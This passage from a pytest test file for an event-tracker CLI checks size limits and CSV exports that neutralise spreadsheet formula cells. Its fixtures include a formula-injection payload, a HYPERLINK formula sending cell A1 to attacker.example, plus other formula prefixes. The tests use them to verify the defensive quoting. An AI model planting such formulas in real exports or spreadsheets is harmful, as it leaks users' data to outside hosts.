    assert event_size(EventFile.model_validate(SMALLEST_EVENT)) <= largest_event_size(
        len(compact(SMALLEST_EVENT)))
    bigger = copy.deepcopy(SMALLEST_EVENT)
    *parents, key = section
    container = bigger
    for part in parents:
        container = container[part]
    container[key] = [SMALLEST_ENTRIES[section]] * 1000
    growth = event_size(EventFile.model_validate(bigger)) - event_size(
        EventFile.model_validate(SMALLEST_EVENT))
    added = len(compact(bigger)) - len(compact(SMALLEST_EVENT))
    assert growth <= largest_event_size(added) - largest_event_size(0), (growth, added)


@pytest.mark.parametrize("value", ["lots", "0", "-5", "4 MB"])
def test_a_limit_that_is_no_number_of_bytes_is_one_clear_line(one_event_db, tmp_path, value):
    path = write(tmp_path / "event.json", json.dumps(MINIMAL_EVENT))
    [problem] = refused(one_event_db, "ingest", path, env={InputLimits.EVENT_VARIABLE: value})
    assert problem == (f"$TRACKER_MAX_EVENT_BYTES: {value!r} is not a number of bytes; accepted: "
                       "a whole number above 0, such as 4194304 (the default)")


# ---------------------------------------------------------------- 16. CSV for spreadsheets


FORMULAS = ['=HYPERLINK("https://attacker.example/?"&A1,"details")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def formula_db(tmp_path) -> Path:
    """Text that a spreadsheet would run, in a title, a summary, notes and a person's name."""
    db = tmp_path / "formulas.db"
    events = []
    for index, formula in enumerate(FORMULAS):
        event = dict(copy.deepcopy(MINIMAL_EVENT), id=f"xx-{index:03d}",
                     title=formula.strip() or "t", summary=formula, notes=f"plain {index}",
                     concessions=[])
        event["transfers"][0]["people"] = [{"name": formula.strip()}]
        events.append(event)
    path = write(tmp_path / "formulas.json", json.dumps(events))
    result = invoke("--db", db, "ingest", path)
    assert result.exit_code == 0, result.output
    return db


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("command", [["table", "events"],
                                     ["sql", "SELECT id, title, summary, notes, -freed AS minus FROM events ORDER BY id"]])
def test_csv_for_spreadsheets_neutralises_every_formula_cell(formula_db, tmp_path, command):
    output = tmp_path / "for-excel.csv"
    result = invoke("--db", formula_db, "export", *command, "--for-spreadsheets", "-o", output)
    assert result.exit_code == 0, result.output
    header, *rows = csv_rows(output)
    conn = sqlite3.connect(formula_db)
    stored = {row[0]: row for row in conn.execute("SELECT id, title, summary, notes FROM events")}
    for row in rows:
        cells = dict(zip(header, row))
        for column, value in zip(("title", "summary", "notes"), stored[cells["id"]][1:]):
            starts_formula = value[0] in "=+-@\t\r"
            assert cells[column] == ("'" + value if starts_formula else value), (column, value)
        if "minus" in cells:
            assert cells["minus"] == "-52"  # a number is no formula and stays a number


def test_the_people_table_for_spreadsheets_has_no_cell_a_spreadsheet_would_run(formula_db, tmp_path):
    output = tmp_path / "people.csv"
    assert invoke("--db", formula_db, "export", "table", "people", "--for-spreadsheets",
                  "-o", output).exit_code == 0
    cells = [cell for row in csv_rows(output) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"https://attacker.example/?\"&A1,\"details\")" in cells


def test_without_the_option_and_in_the_data_package_every_cell_is_as_stored(formula_db, tmp_path):
    plain = tmp_path / "events.csv"
    assert invoke("--db", formula_db, "export", "table", "events", "-o", plain).exit_code == 0
    package = tmp_path / "package"
    assert invoke("--db", formula_db, "export", "datapackage", package).exit_code == 0
    assert (package / "events.csv").read_bytes() == plain.read_bytes()
    summaries = {row[0]: row[2] for row in csv_rows(plain)[1:]}
    conn = sqlite3.connect(formula_db)
    assert summaries == dict(conn.execute("SELECT id, summary FROM events"))


def test_the_lossless_exports_keep_formula_text_byte_for_byte(formula_db, tmp_path):
    for fmt in ("json", "ndjson", "yaml"):
        exported = tmp_path / f"events.{'yml' if fmt == 'yaml' else fmt}"
        assert invoke("--db", formula_db, "export", "events", "-o", exported).exit_code == 0
        again = tmp_path / f"again-{fmt}.db"
        assert invoke("--db", again, "ingest", exported).exit_code == 0
        second = tmp_path / f"second.{exported.suffix}"
        assert invoke("--db", again, "export", "events", "-o", second).exit_code == 0
        assert second.read_bytes() == exported.read_bytes()
        summaries = sqlite3.connect(again).execute("SELECT summary FROM events ORDER BY id")
        assert [summary for (summary,) in summaries] == FORMULAS


@pytest.mark.parametrize("fmt", ["json", "ndjson", "yaml"])
def test_for_spreadsheets_is_refused_for_other_formats_and_writes_nothing(formula_db, tmp_path, fmt):
    output = tmp_path / f"out.{fmt}"
    result = invoke("--db", formula_db, "export", "table", "events", "--for-spreadsheets", "-o", output)
    assert result.exit_code == 1
    assert result.output.strip() == (
        f"Error: formulas are neutralised for spreadsheets in CSV only, not in {fmt}; "
        "accepted: CSV output (--format csv, or -o FILE.csv)")
    assert list(tmp_path.glob("out*")) == []
